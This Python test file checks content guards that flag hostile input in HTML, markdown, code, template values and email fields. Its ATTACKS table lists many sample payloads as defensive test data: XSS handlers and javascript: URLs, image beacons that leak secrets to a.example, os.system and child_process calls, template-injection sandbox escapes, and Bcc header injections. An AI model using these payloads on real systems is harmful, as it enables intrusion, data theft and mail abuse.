"""Guards of texts that are shown, sent or evaluated: which codes they find, in how many steps."""

from __future__ import annotations

import sys
from types import FrameType

from support.for_each import for_each

from pdp.content.guards.codes import CODES, MAX_BYTES, UNPARSED
from pdp.content.guards.run import codes

# kind: (text, codes that must be found)
ATTACKS = {
    "html": (
        ("<script>x</script>", "script"),
        ("<svg:script>x", "script"),
        ("<img src=x onerror=alert(1)", "handler"),
        ("<svg/onload=alert(1)>", "handler foreign"),
        ("<x\x0conclick=a>", "handler"),
        ("</textarea><body onload='a'>", "handler"),
        ('<a href="jav&#x0A;ascript:alert(1)">x</a>', "script_url"),
        ("<a href=' \x01javascript:x'>x", "script_url"),
        ("<a href='data:text/html,x'>x", "script_url"),
        ("<form action=javascript:x><input type=submit>", "script_url form"),
        ("<svg><animate values='x;javascript:y'>", "script_url"),
        ("javascript:alert(1)", "script_url"),
        ("<iframe srcdoc='x'>", "embedding"),
        ("<object data=x>", "embedding"),
        ("<link rel=stylesheet href=//a.example/x.css>", "embedding"),
        ("<svg><use href='//a.example/x.svg#y'>", "embedding"),
        ("<meta http-equiv=refresh content='0;url=//a.example'>", "redirect"),
        ("<base href=//a.example/>", "redirect"),
        ("<p style='width:e/**/xpression(x)'>", "style_code"),
        ("<style>@im\\70ort url(x)</style>", "style_code"),
        ("<p style=\"background:u\\72l('//a.example')\">", "style_load"),
        ("<math><mi></math>", "foreign"),
        ("<noscript><p title='</noscript><img src=x onerror=a>'>", "handler"),
        ("<p title='<img src=x onerror=a>'>", "hidden_markup"),
        ("<!-- <script>x</script> -->", "hidden_markup"),
        ("<!--#exec cmd='x' -->", "directive"),
        ("<?php system('x') ?>", "directive"),
        ('" onmouseover="a', "breakout"),
        ("' autofocus onfocus='a", "breakout"),
        ("x onclick = a", "breakout"),
        ("%3Cscript%3Ex%3C/script%3E", "encoded"),
        ("\\x3cimg onerror=a\\x3e", "encoded"),
        ("+ADw-script+AD4-", "encoded"),
        ("<img src='https://a.example/x?d={secret}'>", "beacon remote"),
        (f"<img src='//a.example/x?d={'QUJD' * 8}'>", "beacon"),
        ("<a href='https://a.example/?q=[text]'>x</a>", "data_link"),
        ("<form>", "form"),
        ("<a href='https://c.example'>x</a>", "unlisted"),
        ("<a href='ftp://c.example'>x</a>", "scheme"),
        ("<b>x</b>", "markup"),
        ("<a>" * 2_100, UNPARSED),
    ),
    "markdown": (
        ("![x](https://a.example/?q=$DATA)", "beacon remote"),
        ("![x][a]\n\n[a]: https://a.example/?q={{text}}", "beacon"),
        ("[x](javascript:a)", "script_url"),
        ("[x](<java\tscript:a>)", "script_url"),
        ("<javascript:a>", "script_url"),
        ("[x](https://a.example/?q=[text])", "data_link"),
        ("a <img src=x onerror=a> b", "handler"),
        ("<div>\n<script>x\n</script>\n</div>", "script"),
        ("<b>x</b>", "markup"),
        ("![x](https://c.example/x.png)", "unlisted remote"),
        ("see https://c.example/x", "unlisted"),
        ("[x](ftp://c.example)", "scheme"),
        ("[" * 600, UNPARSED),
    ),
    "code": (
        ("eval('1')", "execution"),
        ("exec(base64.b64decode(x))", "execution obfuscated"),
        ("new Function('a')()", "execution"),
        ("a.constructor.constructor('b')()", "execution"),
        ("a['con' + 'structor']['constructor']('b')", "execution"),
        ("pickle.loads(x)", "execution"),
        ("__import__('os').system('id')", "execution process"),
        ("import subprocess\nsubprocess.run(['id'])", "process module statement"),
        ("require('child_process').exec('id')", "process"),
        ("a?.require(`node:child_process`)", "process"),
        ("().__class__.__base__.__subclasses__()", "introspection reflection"),
        ("getattr(a, '__cla' + 'ss__').mro()", "introspection reflection"),
        ("'{0.__globals__}'.format(f)", "introspection"),
        ("f'{a.__globals__}'", "introspection"),
        ("a.__proto__", "introspection"),
        ("a = '__glo' + 'bals__'", "introspection"),
        ("f('x', 'os.system')", "introspection"),
        ("\U0001d626val('1')", "execution obfuscated"),
        ("'\\x5f\\x5f\\x61\\x62'", "obfuscated"),
        ("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]", "obfuscated"),
        ("open('/etc/hosts').read()", "host_access"),
        ("os.environ['A']", "host_access"),
        ("process.env.A", "host_access"),
        ("document.cookie", "host_access"),
        ("import os", "module statement"),
        ("while True:\n    a = 1", "unbounded statement"),
        ("for (;;) {}", "unbounded"),
        ("9 ** 9 ** 9", "unbounded"),
        ("'a' * 100000", "unbounded"),
        ("n = 99999999\n'a' * n", "unbounded statement"),
        ("a = 1", "statement"),
        ("not code at all", UNPARSED),
        ("<!--" * 9, UNPARSED),
    ),
    "code_value": (
        ("{{7*7}}", "template"),
        ("${{7*7}}", "template"),
        ("<%= 7 * 7 %>", "template"),
        ("#{`id`}", "field"),
        ("a {{config}} b", "template"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "template introspection reflection call"),
        ("{% for a in b %}", "template"),
        ("${T(java.lang.Runtime).getRuntime().exec('id')}", "template process"),
        ("@(1+2)", "template"),
        ("[[${7*7}]]", "template"),
        ("{{" + " a" * 300 + " 7*7", "template"),
        ("{{a}}" * 70, "template field"),
        ("{{ name }}", "field"),
        ("__import__('os').system('id')", "execution process call"),
        ("eval(String.fromCharCode(1", "execution obfuscated"),
        ("process['mainModule'", "host_access"),
        ("import os", "module"),
        ("9**9**9", "unbounded"),
        ("alert(1)", "call"),
        ("' + os.system('id') + '", "breakout process host_access"),
        ("'); os.system('id'); f('", "breakout process"),
        ('"; alert(1) //', "breakout"),
        ("x' or '1' == '1", "breakout"),
        ("x' == !'", "breakout"),
        ("x" * 1_025, UNPARSED),
    ),
    "email": (
        ("a@b.example.com\r\nBcc: c@d.com", "header_injection"),
        ("a@example.com%0ABcc:c@d.com", "header_injection hidden_recipient"),
        ("a@example.com\\nBcc: c@d.com", "header_injection"),
        ("a@example.com&#10;Bcc:c@d.com", "header_injection"),
        ("=?utf-8?q?=0ABcc:?= <a@example.com>", "header_injection"),
        ("a\u2028@example.com", "header_injection"),
        ("=?utf-8?b?Cg==?= <a@example.com>", "header_injection"),
        ("a@b," * 33, UNPARSED),
        ("=?x?q?a=40evil.com=3e=00?=foo@example.com", "encoded_word"),
        ("a\u200b@example.com", "invisible"),
        ('"a@evil.com,b"@example.com', "hidden_recipient quoted"),
        ("a@example.com b@evil.com", "hidden_recipient"),
        ("a@example.com|b@evil.com", "hidden_recipient"),
        ("boss@example.com <a@evil.com>", "hidden_recipient"),
        ('"boss@example.com" <a@evil.com>', "display_name"),
        ("=?utf-8?q?boss=40example=2Ecom?= <a@evil.com>", "display_name"),
        ("boss\uff20example.com <a@evil.com>", "display_name"),
        ("<@a.com,@b.com:c@example.com>", "route"),
        ("c%evil.com@example.com", "route"),
        ("evil.com!c@example.com", "route"),
        ("mailto:a@example.com?bcc=b@c.com", "parameters"),
        ("-oQ/tmp@example.com", "option"),
        ('"a -X/tmp/x b"@example.com', "option quoted"),
        ("|id@example.com", "delivery"),
        ("\u0430dmin@example.com", "look_alike"),
        ("a@ex\u0430mple.com", "look_alike"),
        ("a@-", "invalid_host"),
        ("a@localhost", "internal_host"),
        ("a(b)@example.com", "comment"),
        ("{{7*7}}@example.com", "odd_local"),
        ("a@intranet", "internal_name"),
        ("a@bank.com.evil.net", "embedded_domain"),
        ("a@[192.0.2.1]", "address"),
        ("root", "local"),
        ("a@example.com, b@example.com", "several"),
        ("Friends: a@example.com, b@example.com;", "several"),
        ("not an address at all", UNPARSED),
        ("(" * 100 + "a@example.com", UNPARSED),
    ),
    "email_header": (
        ("Hello\nBcc: a@example.com", "header_injection"),
        ("Hello\\r\\nBcc: a@example.com", "header_injection"),
        ("Hello%0d%0aBcc:%20a@example.com", "header_injection"),
        ("Hello%250aBcc:a", "header_injection"),
        ("=?utf-8?b?SGkNCkJjYzogYUBleGFtcGxlLmNvbQ==?=", "header_injection encoded_word"),
        ("a\u202eb", "invisible"),
        ("x" * 1_025, UNPARSED),
    ),
}
# what is shown, sent or computed as it stands; codes that are facts alone may be found
HARMLESS = {
    "html": (
        "a < b && c > d; x <- y; <3",
        "<p>5 &lt;script&gt; tags</p>",
        "<p class='x'>He said: <em>one = two</em>, on it = off.</p><br><img alt='x' src='x.png'>",
        "<a href='https://a.example/x?page=2&lang=en'>next</a>",
        "<img src='https://img.example/badge/x?style=flat&logo=python'>",
        "<p style='color: red; margin: 0'>x</p><style>p { color: red }</style>",
        "5\" pipe and 7' board, only = 3",
        "the data: none; javascript is a language",
        "50 %3 off, C:\\x\\new",
    ),
    "markdown": (
        "Use `<script>` or:\n\n    <iframe src=x>\n\n```html\n<img src=x onerror=a>\n```\n",
        "# Title\n\n![x](x.png) [next](https://a.example/?page=2) <https://a.example/>\n\n| a | b |\n",
        "![badge](https://img.example/x?style=flat&branch=main)",
        "1 < 2, a\\<script\\>",
    ),
    "code": (
        "1 + 2 * max(a, b) ** 2",
        "[price * 1.19 for price in prices if price > 10]",
        "a.b.c === 'eval(x)' ? items.map(x => x.name) : null",
        "{'name': 'open sesame', 'system': 'metric'}",
        "def total(rows):\n    return sum(row['cost'] for row in rows)\n",
        "re.compile(r'a+').exec(text)",
        "2 ** 10 + (1 << 8)",
    ),
    "code_value": (
        "O'Brien & Sons (2nd floor), 50% off",
        "it's 5 o'clock; don't open the system (yet)",
        "C:\\Users\\x {draft} [1] $5 #2 <b>",
        "f(x) = x^2 for x in {1, 2}",
        "requests[security]>=2.0; python_version < '3.9'",
        "[[Main page|the page]] and @(home)",
        "__init__.py",
        "2026-11-22 08:00",
    ),
    "email": (
        "a.b+c_d@example.com",
        '"O\'Brien, Ann" <ann.obrien@example.co.uk>',
        "ann@example.com <ann@example.com>".replace("ann@example.com <", '"ann@example.com" <'),
        "=?utf-8?q?J=C3=BCrgen?= <j@example.com>",
        "j\u00fcrgen@m\u00fcller.de",
        "ann@example.com, bob@example.org",
        "postmaster@mail.example.com",
    ),
    "email_header": (
        "Re: [list] 100% of the C:\\new folder",
        "Gr\u00fc\u00dfe aus \u6771\u4eac \U0001f600",
        "Use \\n in a pattern",
    ),
}
LISTED = ("a.example", ".img.example")
FACTS = {"markup", "remote", "data_link", "statement", "several"}


@for_each("kind", ATTACKS)
def test_attacks_are_found(kind: str) -> None:
    missed = [
        (text, needed, found)
        for text, named in ATTACKS[kind]
        for needed, found in [(set(named.split()), set(codes(kind, text)))]
        if not needed <= found
    ]
    assert missed == []


@for_each("kind", ["html", "code", "code_value", "email", "email_header"])
def test_every_code_has_a_case(kind: str) -> None:
    assert {code for _, named in ATTACKS[kind] for code in named.split()} | {UNPARSED} == set(CODES[kind])


@for_each("kind", HARMLESS)
def test_look_alikes_are_left_alone(kind: str) -> None:
    found = {text: set(codes(kind, text, LISTED)) - FACTS for text in HARMLESS[kind]}
    assert {text: each for text, each in found.items() if each} == {}


def _steps(kind: str, text: str) -> int:
    """Calls that a guard makes, those into libraries written in C included."""
    counted = 0

    def count(_: FrameType, event: str, __: object) -> None:
        nonlocal counted
        counted += event in {"call", "c_call"}

    sys.setprofile(count)
    try:
        codes(kind, text)
    finally:
        sys.setprofile(None)
    return counted


_PATTERNS = {
    "html": (
        "<a b=c ",
        "<a ",
        "<!--",
        "/*",
        "<p style='/*",
        "<svg><style>",
        '" onclick=',
        "%3c",
        "<p title='<b",
        "<",
        "&lt;",
    ),
    "code": ("(", "[", "{", "a.", "'", "f'{", "`${", "a?b:", "(a)=>", "/**/", "\n", "<!--", "class a:\n", "a b "),
    "code_value": ("{{", "${", "{{a}}", "[[", "'", '"', "(", "f('", "a.", "<%"),
    "email": ("(", '"', "a@b,", "<@a:", "=?utf-8?q?a?=", "\\n", "%0a", "a ", "<", "\\", "[", '"a" '),
    "email_header": ("=?utf-8?q?a?= ", "%25", "\\n", "=?", "&#0"),
    "markdown": ("[", "![", "[a](", "<a ", "*a **b ", "`", "[a]: x\n", "> ", "- ", "<!--", "a  \n", "[a][b"),
}


@for_each("kind", _PATTERNS)
def test_steps_grow_with_the_length(kind: str) -> None:
    """A text takes at most so many steps for each character, whatever it repeats."""
    codes(kind, "a@example.com")  # its parsers and lists are loaded
    length = MAX_BYTES[kind] // 4
    steps = {pattern: _steps(kind, (pattern * length)[:length]) for pattern in _PATTERNS[kind]}
    assert {pattern: found for pattern, found in steps.items() if found > 250 * length} == {}


def test_hosts_that_the_organisation_lists_are_no_question() -> None:
    def asked(text: str, *hosts: str) -> bool:
        return "unlisted" in codes("markdown", text, hosts)

    assert asked("[x](https://a.example/)")
    assert not asked("[x](https://a.example/)", "a.example")
    assert not asked("[x](https://A.EXAMPLE:8443/)", "a.example")
    assert asked("[x](https://b.a.example/)", "a.example")
    assert not asked("[x](https://b.a.example/) ![y](//a.example/y)", ".a.example")
    assert asked("[x](https://ba.example/)", ".a.example")
    assert asked("[x](https://a.example@evil.example/)", "a.example")
    assert asked("[x](https://evil.example/?https://a.example/)", "a.example")
    assert asked("[x](https:\\\\evil.example/a.example)", "a.example")
    assert asked("[x](mailto:a@evil.example?body=x)", "a.example")
